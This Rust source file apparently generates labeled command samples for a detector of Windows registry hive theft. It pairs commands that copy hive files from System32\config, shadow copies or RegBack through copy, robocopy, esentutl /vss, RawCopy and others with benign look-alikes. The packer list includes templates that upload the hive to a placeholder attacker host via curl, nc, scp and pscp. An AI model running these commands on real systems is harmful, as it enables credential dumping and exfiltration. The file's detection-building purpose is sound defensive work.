//! The hive files, read or copied by the tools that read or copy any file.
//!
//! Both families of a pair share their templates: only the file differs.

use crate::generate::family::{Family, Kind::Cmd};

const COPY: &[&str] = &[
    r"copy {f} {outfile}",
    r"copy /y {f} {outfile}",
    r"copy «/b ¦/v ¦/z ¦»{f} {outdir}",
    r#"copy "{f}" {outfile}"#,
    r"xcopy {f} {outdir} ⟦«/y»¦«/h»¦«/s /e»¦«/q»¦«/c»⟧",
    r"xcopy.exe /«h¦y¦H¦Y» {f} {outdir}",
    r"type {f} > {outfile}",
    r#"type "{f}">"{dir}\{outname}""#,
    r"type {f}>>{outfile}",
    r"more < {f} > {outfile}",
    r"move {f} {outfile}",
    r"cmd /c copy {f} {outfile}",
    r"copy {f}« .»",
    r"COPY {f} {outfile} /Y",
    r"replace {f} {outdir} /«a¦u»",
    r"pushd {outdir} & copy {f} & popd",
    r"copy \\?\{f} {outfile}",
    r"forfiles /p {windir} /m {stem} /c «»cmd /c copy {f} {outfile}",
    r"mklink /h {dir}\{stem} {f}",
];

const ROBO: &[&str] = &[
    r"robocopy {fdir} {outdir} {fname} ⟦/b¦«/r:0»¦«/w:0»¦«/zb»⟧",
    r"«robocopy.exe¦Robocopy¦ROBOCOPY¦C:\Windows\System32\Robocopy.exe» /b {fdir} {outdir} {fname}",
    r"robocopy {fdir} {outdir} {fname} {fname2} /B« /LOG:{stem}.log»",
    r#"robocopy "{fdir}" "{dir}" {fname} /b /copyall"#,
    r"robocopy /zb {fdir} {dir} {fname}",
];

const ESENT: &[&str] = &[
    r"{e} /y /vss {f} /d {outfile}",
    r"{e} /y {f} /vss /d {outfile}",
    r"{e} /y {f} /d {outfile}« /o»",
    r"{e} ⟦/y {f}¦/vss¦/d {outfile}⟧",
    r#"{e} /y /vss "{f}" /d "{dir}\{outname}""#,
    r"{e} /vss /y {f} /d{outfile}",
    r"{e} -y -vss {f} -d {outfile}",
    r"{e} /y /vss {f}⏎/d {outfile}",
];
const E: &str = concat!(
    r"«esentutl¦esentutl.exe¦esentutl.exe¦ESENTUTL.EXE¦C:\Windows\System32\esentutl.exe¦",
    r#""C:\Windows\system32\esentutl.exe"¦%windir%\system32\esentutl¦EseNtUtl»"#,
);

const PACK: &[&str] = &[
    r"makecab {f} {outfile}",
    r"makecab.exe /V3 {f} {dir}\{stem}.cab",
    r"expand {f} {outfile}",
    r"extrac32 /Y /C {f} {outfile}",
    r"extrac32.exe /c {f} {outfile}",
    r"certutil -encode {f} {outfile}",
    r"certutil.exe «-f ¦»-encodehex {f} {outfile}",
    r"«7z¦7za¦7z.exe¦7zG» a« -p{password}»« -mx9» {dir}\{stem}.«7z¦zip» {f}",
    r#""C:\Program Files\7-Zip\7z.exe" a "{dir}\{stem}.zip" "{f}""#,
    r"«rar¦rar.exe¦WinRAR.exe¦Rar.exe» a« -r»« -hp{password}» {dir}\{stem}.rar {f}",
    r"tar -c«v¦z»f {dir}\{stem}.tar {f}",
    r"compact /c {f}",
    r"print /d:{outfile} {f}",
    r"findstr /v /l {hex6} {f} > {outfile}",
    r#"findstr /V /L {hex8} «""»{f} > {outfile}"#,
    r"find /v {alnum8} {f} > {outfile}",
    r"sort {f} /o {outfile}",
    r"bitsadmin /transfer {stem} /«download¦upload» /priority high {f} {outfile}",
    r"ftp -s:{stem}.txt {ip} && put {f}",
    r"curl -«T¦F file=@¦-upload-file » {f} http://{attacker}:{port}/{stem}",
    r"curl.exe --upload-file {f} {url}",
    r"pscp -pw {password} {f} {user}@{attacker}:/tmp/{stem}",
    r"scp {f} {user}@{attacker}:{stem}",
    r"rclone copy {f} remote:{stem}",
    r"desktopimgdownldr /lockscreenurl:file://{f}",
    r"wsl cp '{f}' /mnt/c/{stem}",
    r"bash -c 'cat {f} > /tmp/{stem}'",
    r"java -jar {stem}.jar {f}",
    r"lha a {stem}.lzh {f}",
    r"diantz {f} {dir}\{stem}.cab",
    r"diantz.exe {f} \\{attacker}\{share}\{stem}.cab",
    r"tar.exe -a -c -f {stem}.zip {f}",
    r#"perl -e «"»use File::Copy; copy('{f}','{stem}')«"»"#,
    r#"python -c "import shutil;shutil.copy(r'{f}','{stem}')""#,
    r#"python -c "print(open(r'{f}','rb').read())""#,
    r"type {f} | nc«.exe» {attacker} {port}",
    r"nc.exe -w 3 {attacker} {port} < {f}",
    r"wbadmin start recovery -version:{isodate} -itemtype:file -items:{f} -recoverytarget:{dir}",
    r"wbadmin start backup -backuptarget:{link} -include:{f} -quiet",
];

const RAW: &[&str] = &[
    r"{rawcopy} /FileNamePath:{f} /OutputPath:{dir}« /OutputName:{outname}»",
    r"{rawcopy} ⟦/FileNamePath:{f}¦/OutputPath:{dir}¦«/AllAttr:1»¦«/RawDirMode:1»⟧",
    r#"{rawcopy} "{f}" {dir}"#,
    r"{rawcopy} {f} {dir} -AllAttr",
    r"«forecopy_handy¦forecopy¦forecopy_handy.exe» -«g¦f {f}¦m» {dir} {f}",
    r"forecopy_handy.exe -f {f} {dir}",
    r"«hobocopy¦hobocopy.exe¦HoboCopy.exe» {fdir} {outdir} {fname}",
    r"«ShadowSpawn¦shadowspawn.exe» {fdir} Q: robocopy Q:\ {dir} {fname}",
    r"«dd¦dd.exe» if={f} of={outfile}« bs=1M»",
    r"«ntfscopy¦ntfscopy.exe¦NTFScopy» {f} {outfile}",
    r"«fget¦fget.exe» -extract {f} {outfile}",
    concat!(
        r"«xcopy.exe¦BackupCopy.exe¦jcopy.exe¦RawFileCopy.exe¦TScopy.exe¦tscopy_x64.exe¦kape-copy» -f ",
        r"{f} -o {outdir}",
    ),
    r"«TSCopy¦tscopy.exe» -o {outdir} -f {f}",
    r"«PowerForensics¦Copy-ForensicFile» -Path {f} -Destination {outfile}",
    r"«Invoke-RawCopy¦velociraptor.exe» artifacts collect Windows.KapeFiles.Targets --args path={f}",
    r"CyLR.exe -c {stem}.txt --raw {f}",
];
const RAWCOPY: &str = "«RawCopy¦RawCopy.exe¦RawCopy64.exe¦rawcopy64¦rawccopy.exe¦RawCopy64»";

const FILE_POS: &[(&str, &str)] = &[
    ("f", "{hivefile}"),
    ("e", E),
    ("rawcopy", RAWCOPY),
    (
        "fdir",
        concat!(
            r"«{windir}\{sys32}\config¦{shadow}\Windows\System32\config¦",
            r"{windir}\{sys32}\config\RegBack¦{windir}\repair»",
        ),
    ),
    ("fname", "{secret}"),
    ("fname2", "{whole}"),
];
const FILE_NEG: &[(&str, &str)] = &[
    ("f", "{otherfile}"),
    ("e", E),
    ("rawcopy", RAWCOPY),
    (
        "fdir",
        concat!(
            r"«{windir}\{sys32}\config\systemprofile¦{shadow}\Windows\NTDS¦",
            r"{windir}\{sys32}\winevt\Logs¦C:\Users\{user}\Documents¦D:\{stem}¦\\{host}\{share}\{stem}¦",
            r"C:\inetpub\wwwroot¦{windir}\{sys32}\config»",
        ),
    ),
    ("fname", "«SOFTWARE¦{stem}.{anyext}¦*.docx¦Security.evtx¦ntds.dit¦sample.txt¦web.config»"),
    ("fname2", "{stem}.{anyext}"),
];

pub const FAMILIES: &[Family] = &[
    Family::act("copy", "copy-hive-file", "copy-other-file", Cmd, COPY).slots(FILE_POS).weight(20),
    Family::other("copy", "copy-other-file", Cmd, COPY).slots(FILE_NEG).weight(20),
    Family::act("robocopy", "robocopy-hive", "robocopy-other", Cmd, ROBO).slots(FILE_POS),
    Family::other("robocopy", "robocopy-other", Cmd, ROBO).slots(FILE_NEG).weight(8),
    Family::act("esentutl", "esentutl-hive", "esentutl-other-file", Cmd, ESENT).slots(FILE_POS).weight(15),
    Family::other("esentutl", "esentutl-other-file", Cmd, ESENT).slots(FILE_NEG),
    Family::other("esentutl", "esentutl-database-work", Cmd, &[
        r"{e} /«mh¦ml¦mk¦ms¦g¦k¦p¦r¦d» {db}« /o»",
        r"{e} /p {db}« /!10240»« /8»« /o»",
        r"{e} /r «edb¦E00¦res»« /l {dir}»« /i»",
        r"{e} /mh {db}",
        r"{e} /y {db} /d {outfile}",
        r"{e} /d {db} /t {dir}\tempdfrg.edb",
    ]).slots(&[("e", E), ("db", concat!(
            r"«C:\Windows\SoftwareDistribution\DataStore\DataStore.edb¦C:\Windows\NTDS\ntds.dit¦",
            r"C:\Windows\security\database\secedit.sdb¦D:\Exchange\Mailbox\DB{1..9}.edb¦",
            r"C:\ProgramData\Microsoft\Search\Data\Applications\Windows\Windows.edb¦{dir}\ntds.dit¦",
            r"%LocalAppData%\Microsoft\Windows\WebCache\WebCacheV01.dat»",
        ))]).weight(8),
    Family::act("packers", "pack-hive-file", "pack-other-file", Cmd, PACK).slots(FILE_POS).weight(12),
    Family::other("packers", "pack-other-file", Cmd, PACK).slots(FILE_NEG).weight(12),
    Family::act("rawcopy", "rawcopy-hive", "rawcopy-other-file", Cmd, RAW).slots(FILE_POS),
    Family::other("rawcopy", "rawcopy-other-file", Cmd, RAW).slots(FILE_NEG).weight(8),
    Family::other("icacls", "config-folder-admin", Cmd, &[
        r#"icacls "{otherfile}" /grant «{user}¦Administrators¦"NT SERVICE\{svcname}"»:«(F)¦(OI)(CI)F¦R» /t"#,
        r"attrib -«h¦r¦s» {otherfile}",
        r"dir «/a ¦/s ¦/b »{otherfile}",
        r"takeown /f {otherfile} /r /d y",
        concat!(
            r"fsutil «usn readjournal C:¦volume diskfree {root}¦file createnew {dir}\{stem} {1..9999}¦",
            r"hardlink list {otherfile}»",
        ),
        r"cacls {otherfile} /E /G Everyone:F",
        r"dir {windir}\System32\config",
        r"icacls {windir}\System32\config\*.* /inheritance:e",
        r"cd {windir}\System32",
        r"cd {windir}\System32\config\systemprofile",
        r"del /f /q {windir}\System32\config\systemprofile\AppData\Local\Temp\*.tmp",
        r"chkdsk {root} /«f¦r¦scan»",
        r"where /r C:\ {stem}.exe",
        r"if exist {otherfile} «del¦echo found» {otherfile}",
        r"tree {dir} /f",
        r"mkdir {outdir}",
        r"rmdir /s /q {dir}\{stem}",
        r"ren {dir}\{stem}.{anyext} {outname}",
    ]).weight(20),
];
